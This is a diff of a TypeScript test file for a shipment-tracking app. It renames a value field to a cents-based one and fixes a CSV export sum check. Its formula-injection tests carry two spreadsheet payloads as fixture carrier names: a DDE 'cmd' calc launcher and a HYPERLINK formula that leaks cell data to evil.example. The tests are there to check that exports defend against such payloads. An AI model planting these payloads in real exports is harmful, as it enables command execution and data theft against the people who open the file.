@@ -63,7 +63,7 @@ function tracking(n: number, who: typeof ana, createdAt?: SQL) {
     status: STATUSES[n % STATUSES.length],
     priority: PRIORITIES[n % PRIORITIES.length],
     estimatedWeight: 1 + (n % 4) * 0.25,
-    estimatedValue: n * 10,
+    estimatedValueUsdCents: n * 1000,
     ...(createdAt ? { createdAt } : {}),
   };
 }
@@ -99,7 +99,7 @@ beforeAll(async () => {
       priority: 'medium',
       carrier: 'DHL',
       estimatedWeight: 1,
-      estimatedValue: 0,
+      estimatedValueUsdCents: 0,
     });
 });
 afterAll(async () => {
@@ -283,14 +283,14 @@ describe('formula injection', () => {
           status: 'created' as const,
           carrier: `@SUM(1+9)*cmd|' /C calc'!A0`,
           estimatedWeight: 2.5,
-          estimatedValue: 1234.5,
+          estimatedValueUsdCents: 123450,
         },
         {
           ...tracking(902, mallory),
           trackingNumber: 'INJ0902',
           carrier: `=HYPERLINK("http://evil.example/?d="&A1,"Ver")`,
           estimatedWeight: 0.75,
-          estimatedValue: 0,
+          estimatedValueUsdCents: 0,
         },
       ]);
 
@@ -320,11 +320,12 @@ describe('formula injection', () => {
     const [sums] = await db()
       .select({
         weight: sql<string>`sum(${trackings.estimatedWeight})::text`,
-        value: sql<string>`sum(${trackings.estimatedValue})::text`,
+        value: sql<string>`sum(${trackings.estimatedValueUsdCents})::text`,
       })
       .from(trackings);
     const total = (cells: string[]) => cells.reduce((sum, cell) => sum + Math.round(Number(cell) * 100), 0) / 100;
     expect(total(weights)).toBe(Number(sums.weight));
-    expect(total(values)).toBe(Number(sums.value));
+    // The CSV writes dollars; the column holds cents.
+    expect(Math.round(total(values) * 100)).toBe(Number(sums.value));
   });
 });
